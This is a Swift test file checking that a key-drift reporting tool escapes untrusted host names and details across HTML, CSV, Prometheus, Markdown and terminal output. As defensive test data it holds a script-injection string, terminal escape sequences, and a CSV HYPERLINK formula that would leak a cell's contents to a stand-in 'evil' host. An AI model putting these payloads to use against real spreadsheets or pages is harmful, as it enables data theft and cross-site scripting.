import Foundation
import Testing
@testable import KeySync

/// Text from the database (host names, details, comments: things a host can
/// put there) in every format.
@Suite struct ReportEscapingTests {
    static let host = "web\"1\\x\nevil"
    static let detail = "<script>alert(\"x\")</script> & 'it', a|b *c* \u{1B}[31mred\r\nnext"

    /// A report whose every string needs escaping.
    static func nastyReport() throws -> DriftReport {
        let store = try Store.inMemory()
        try recordRun(store, at: hour(0), [
            Store.HostRecord(host: host, status: .drift, drift: [
                Store.DriftRecord(account: "o'brien", kind: "unexpected_key", detail: detail, fingerprint: "SHA256:a+b/c"),
            ]),
            Store.HostRecord(host: "<b>db</b>", status: .failed, error: "refused: \"<&>\"", errorKind: "host_unreachable",
                             drift: [Store.DriftRecord(kind: "host_unreachable", detail: "refused: \"<&>\"")]),
        ])
        return try DriftReport(store: store, since: hour(-1), generatedAt: hour(1))
    }

    @Test(arguments: [
        ("plain", "plain"), ("a<b>&c", "a&lt;b&gt;&amp;c"), ("\"q\" 'a'", "&quot;q&quot; &#39;a&#39;"),
    ])
    func html(_ raw: String, _ escaped: String) {
        #expect(raw.htmlEscaped == escaped)
    }

    @Test(arguments: [
        ("plain", "plain"), ("a,b", "\"a,b\""), ("say \"hi\"", "\"say \"\"hi\"\"\""), ("two\nlines", "\"two\nlines\""),
        ("cr\r", "cr\\u{D}"), (" padded", "\" padded\""), ("", ""),
        ("esc\u{1B}[2J", "esc\\u{1B}[2J"), ("bell\u{07},x", "\"bell\\u{7},x\""),
        // What a spreadsheet would run as a formula starts with a quote mark.
        ("=HYPERLINK(\"https://evil/?\"&A1,\"fix\")", "\"'=HYPERLINK(\"\"https://evil/?\"\"&A1,\"\"fix\"\")\""),
        ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("SHA256:a=", "SHA256:a="),
    ])
    func csv(_ raw: String, _ escaped: String) {
        #expect(raw.csvField == escaped)
    }

    @Test(arguments: [
        ("web-1", "web-1"), ("a\"b", "a\\\"b"), ("back\\slash", "back\\\\slash"), ("two\nlines", "two\\nlines"),
        ("\\\"\n", "\\\\\\\"\\n"),
    ])
    func prometheusLabel(_ raw: String, _ escaped: String) {
        #expect(raw.prometheusLabelEscaped == escaped)
    }

    @Test func markdown() {
        #expect("a|b *c* _d_ [e](f) <g> `h` \\ & ~i~\r\nj".markdownEscaped
            == "a\\|b \\*c\\* \\_d\\_ \\[e\\](f) \\<g\\> \\`h\\` \\\\ \\& \\~i\\~ j")
    }

    @Test func terminal() {
        #expect("a\u{1B}[2Jb\tc\u{7F}\u{9B}d\ne".terminalSafe() == "a\\u{1B}[2Jb\tc\\u{7F}\\u{9B}d\\u{A}e")
        #expect("line\nnext\r".terminalSafe(keepingNewlines: true) == "line\nnext\\u{D}")
    }

    @Test func htmlReportEscapesEverythingAndIsWellFormed() throws {
        let html = ReportFormat.html.render(try Self.nastyReport())
        #expect(!html.contains("<script"))
        #expect(!html.contains("<b>db"))
        #expect(html.contains("&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &#39;it&#39;"))
        #expect(html.contains("<td>web&quot;1\\x\nevil</td>"))
        #expect(html.contains("<td>o&#39;brien</td>"))
        // Nothing external: no links, sources, imports or scripts; the one URL is the SVG namespace.
        for reference in ["src=", "href=", "url(", "@import", "<link", "<script", "<img", "<iframe"] {
            #expect(!html.contains(reference), "\(reference)")
        }
        #expect(html.components(separatedBy: "://").count == 2 && html.contains("xmlns=\"http://www.w3.org/2000/svg\""))
        expectWellFormedXML(html)
    }

    @Test func csvRoundTrips() throws {
        let csv = ReportFormat.csv.render(try Self.nastyReport())
        let records = Self.parseCSV(csv)
        #expect(records.count == 3)
        // Every byte round-trips except control characters other than LF
        // and tab, which are shown as codes (CSV is printed to terminals too).
        #expect(records[2] == [Self.host, "o'brien", "unexpected_key", "2023-11-14T22:13:20Z", "1", "1",
                               "2023-11-14T22:13:20Z",
                               Self.detail.replacingOccurrences(of: "\u{1B}", with: "\\u{1B}").replacingOccurrences(of: "\r", with: "\\u{D}"),
                               "SHA256:a+b/c"])
        #expect(!csv.contains("\u{1B}"))
        #expect(records[1][0] == "<b>db</b>" && records[1][7] == "refused: \"<&>\"")
    }

    @Test func prometheusLabelsRoundTrip() throws {
        let samples = try PrometheusExposition.parse(ReportFormat.prometheus.render(try Self.nastyReport()))
        let items = samples.filter { $0.name == "keysync_drift_items" }
        #expect(Set(items.compactMap { $0.labels["host"] }) == [Self.host, "<b>db</b>"])
        #expect(items.allSatisfy { $0.value == 1 })
    }

    @Test func markdownKeepsTheTableShape() {
        let markdown = (try? ReportFormat.markdown.render(Self.nastyReport())) ?? ""
        let rows = lines(markdown).filter { $0.hasPrefix("| ") }
        #expect(rows.count == 7)
        // Unescaped pipes are the cell borders only: 6 in the drift table (4 rows), 4 in the failed hosts table (3 rows).
        let borders = rows.map { $0.replacingOccurrences(of: "\\\\", with: "").replacingOccurrences(of: "\\|", with: "").filter { $0 == "|" }.count }
        #expect(borders == [6, 6, 6, 6, 4, 4, 4])
        #expect(!markdown.contains("<script>") && !markdown.contains("\u{1B}"))
    }

    @Test func tableShowsControlCharacters() throws {
        let table = ReportFormat.table.render(try Self.nastyReport())
        #expect(!table.contains("\u{1B}") && !table.contains("\r"))
        #expect(table.contains("\\u{1B}[31mred\\u{D}\\u{A}next"))
        #expect(lines(table).count == 6, "\(table)")
    }

    /// RFC 4180 records (CRLF line ends, quoted fields).
    static func parseCSV(_ text: String) -> [[String]] {
        var records: [[String]] = [], record: [String] = [], field = "", quoted = false
        var characters = Array(text.unicodeScalars)[...]
        while let c = characters.popFirst() {
            if quoted {
                if c == "\"" {
                    if characters.first == "\"" { field += "\""; characters.removeFirst() } else { quoted = false }
                } else {
                    field.unicodeScalars.append(c)
                }
            } else if c == "\"" {
                quoted = true
            } else if c == "," {
                record.append(field); field = ""
            } else if c == "\r" && characters.first == "\n" {
                characters.removeFirst()
                record.append(field); records.append(record); record = []; field = ""
            } else {
                field.unicodeScalars.append(c)
            }
        }
        return records
    }
}
